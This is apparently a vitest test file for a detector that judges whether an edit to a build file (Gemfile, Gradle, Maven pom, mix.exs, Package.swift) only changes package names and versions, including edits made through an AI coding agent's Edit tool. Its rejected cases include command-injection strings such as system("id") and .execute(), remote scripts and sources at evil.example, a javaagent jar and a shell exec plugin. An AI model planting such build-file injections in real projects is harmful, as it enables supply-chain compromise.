// Which edits of build files only name packages and versions.
import { describe, expect, it } from 'vitest';
import { fixtureHost } from '../../host/fixture-host.ts';
import { analyseTool } from './analyse-tool.ts';
import { isPlainEdit, mayBePlain } from './plain-edits.ts';

const POM = (dependencies: string, build = ''): string =>
  `<project>\n  <version>1.0</version>\n  <properties>\n    <jackson.version>2.1</jackson.version>\n  </properties>\n  <dependencies>\n${dependencies}  </dependencies>\n  <build>\n    <plugins>\n${build}    </plugins>\n  </build>\n</project>\n`;
const DEPENDENCY =
  '    <dependency>\n      <groupId>org.x</groupId>\n      <artifactId>y</artifactId>\n      <version>1.2</version>\n    </dependency>\n';
const PLUGIN =
  '      <plugin>\n        <groupId>org.codehaus.mojo</groupId>\n        <artifactId>exec-maven-plugin</artifactId>\n      </plugin>\n';

const PLAIN: readonly (readonly [string, string, string])[] = [
  ['Gemfile', 'gem "rails", "~> 7.1"\n', 'gem "rails", "~> 7.2"\ngem "pg", ">= 1.5", group: :test, require: false # db\n'],
  ['Gemfile', '', 'source "https://rubygems.org"\n\ngem "rake"\n'],
  ['sub/Gemfile', 'gem "a"\ngem "b"\n', 'gem "a"\n'],
  [
    'x.gemspec',
    'Gem::Specification.new do |s|\nend\n',
    'Gem::Specification.new do |s|\n  s.add_dependency "rake", "~> 13"\nend\n',
  ],
  [
    'build.gradle',
    'dependencies {\n}\n',
    'dependencies {\n    implementation \'org.x:y:1.2\'\n    testImplementation("a:b:$v")\n}\n',
  ],
  [
    'build.gradle.kts',
    'version = "1.0"\n',
    'version = "1.1"\n    implementation(platform("a:b:1"))\n    api(libs.foo.bar)\n    implementation(project(":core"))\n',
  ],
  ['settings.gradle.kts', 'rootProject.name = "x"\n', 'rootProject.name = "x"\ninclude(":app", ":lib")\n'],
  ['gradle.properties', 'kotlinVersion=1.9\n', 'kotlinVersion=2.0\n'],
  ['mix.exs', 'x\n', 'x\n      {:phoenix, "~> 1.8.0"},\n      {:credo, "~> 1.7", only: [:dev, :test], runtime: false}\n'],
  [
    'Package.swift',
    'x\n',
    'x\n    .package(url: "https://github.com/a/b", from: "1.2.3"),\n    .product(name: "B", package: "b"),\n',
  ],
  ['build.sbt', 'x\n', 'x\nlibraryDependencies += "org.x" %% "y" % "1.2" % Test\nscalaVersion := "3.4.0"\n'],
  ['deps.edn', 'x\n', 'x\n  org.clojure/clojure {:mvn/version "1.12.0"}\n'],
  ['Directory.Packages.props', 'x\n', 'x\n    <PackageVersion Include="Serilog" Version="4.0.0" />\n'],
  ['pom.xml', POM(''), POM(DEPENDENCY)],
  ['pom.xml', POM(DEPENDENCY), POM(DEPENDENCY.replace('1.2', '1.3'))],
  ['pom.xml', POM(''), POM('').replace('2.1', '2.2')],
];

const NOT_PLAIN: readonly (readonly [string, string, string])[] = [
  ['Gemfile', '', 'gem "x", git: "https://evil.example/x"\n'],
  ['Gemfile', '', 'gem "x", "#{`id`}"\n'],
  ['Gemfile', '', 'gem "x"; system("id")\n'],
  ['Gemfile', '', 'source "https://evil.example"\n'],
  ['Gemfile', '', 'system "id"\n'],
  ['Gemfile', '# gem\n=begin\nsystem "id"\n=end\n', '# gem\nsystem "id"\n'],
  ['Gemfile', 'gem "a"\n', 'gem "a"\n'],
  ['Gemfile', '=begin\nsystem "id"\n=end\n', '=begin\n=end\nsystem "id"\n'],
  ['build.gradle', '', "implementation 'a:b:1'; 'id'.execute()\n"],
  ['build.gradle', '', 'implementation("a:b:${"id".execute()}")\n'],
  ['build.gradle', '', "annotationProcessor 'a:b:1'\n"],
  ['build.gradle', '', "id 'com.evil' version '1'\n"],
  ['build.gradle', '/*\n"id".execute()\n*/\n', '"id".execute()\n'],
  ['settings.gradle', '', 'apply from: "https://evil.example/x.gradle"\n'],
  ['gradle.properties', '', 'org.gradle.jvmargs=-javaagent:/tmp/x.jar\n'],
  ['mix.exs', '', '{:x, git: "https://evil.example"}\n'],
  ['mix.exs', '', '{:x, "#{System.cmd("id", [])}"}\n'],
  ['Package.swift', '', '.package(path: "/tmp/x"),\n'],
  ['Package.swift', '', '.plugin(name: "x"),\n'],
  ['pom.xml', POM(''), POM('', PLUGIN)],
  ['pom.xml', POM('', PLUGIN), POM('', PLUGIN.replace('exec-', 'evil-'))],
  ['pom.xml', POM('', PLUGIN), POM('', PLUGIN.replace('</artifactId>', '</artifactId>\n        <version>2</version>'))],
  ['pom.xml', POM('    <!--\n'), POM('')],
  ['pom.xml', POM('', `<!--\n${PLUGIN}-->\n`), POM('', `<!--\n-->\n${PLUGIN}`)],
  ['pom.xml', POM(`<!--\n${DEPENDENCY}-->\n`), POM(`${DEPENDENCY}<!--\n-->\n`).replace('<dependencies>', '<dependencies><x/>')],
  [
    'pom.xml',
    POM(''),
    POM('').replace(
      '</project>',
      '<repositories>\n<repository>\n<url>https://evil.example</url>\n</repository>\n</repositories>\n</project>',
    ),
  ],
  ['pom.xml', POM(''), POM('').replace('<dependencies>', '<parent>\n<groupId>evil</groupId>\n</parent>\n<dependencies>')],
  ['pom.xml', POM(''), POM('').replace('<jackson.version>2.1</jackson.version>', '<exec.executable>sh</exec.executable>')],
  ['pom.xml', '<project>\n', '<project>\n<version>1</version>\n'],
  ['pom.xml', POM(''), POM(DEPENDENCY.replace('<scope>', '')).replace('<project>', '<project>\n<![CDATA[')],
  ['conftest.py', '', 'x = 1\n'],
  ['vite.config.ts', '', '"version": "1"\n'],
];

describe('isPlainEdit', () => {
  it.each(PLAIN)('%s: %j → %j', (path, before, after) => {
    expect(mayBePlain(path)).toBe(true);
    expect(isPlainEdit(`/p/${path}`, before, after)).toBe(true);
  });
  it.each(NOT_PLAIN)('not %s: %j → %j', (path, before, after) => {
    expect(isPlainEdit(`/p/${path}`, before, after)).toBe(false);
  });
});

const host = fixtureHost({
  tree: {
    '/p/Gemfile': 'source "https://rubygems.org"\ngem "a", "1.0"\n',
    '/p/conftest.py': 'x = 1\n',
    '/p/sub/Gemfile': { link: '/p/conftest.py' },
    '/p/shut/Gemfile': { text: 'gem "a"\n', unreadable: true },
  },
});
const plainly = (file: string, old: string, now: string): boolean => {
  const input = { file_path: file, old_string: old, new_string: now };
  const reading = analyseTool({ tool: 'Edit', input, cwd: '/p', agent: 'claude-code' }, { host });
  return JSON.stringify(reading).includes('"plain":true');
};

describe('an edit through a tool', () => {
  it.each<readonly [string, string, string, boolean]>([
    ['/p/Gemfile', '"1.0"', '"1.1"', true],
    ['/p/Gemfile', 'gem "a", "1.0"', 'gem "a", "1.0"\ngem "b"', true],
    ['/p/Gemfile', '"1.0"', '"1.0"; system("id")', false],
    ['/p/Gemfile', 'not there', 'gem "b"', false],
    ['/p/new/Gemfile', 'x', 'gem "b"', false],
    ['/p/sub/Gemfile', 'x = 1', 'gem "b"', false],
    ['/p/shut/Gemfile', 'gem "a"', 'gem "b"', false],
    ['/p/conftest.py', 'x = 1', 'gem "b"', false],
  ])('%s: %s → %s', (file, old, now, want) => expect(plainly(file, old, now)).toBe(want));
});
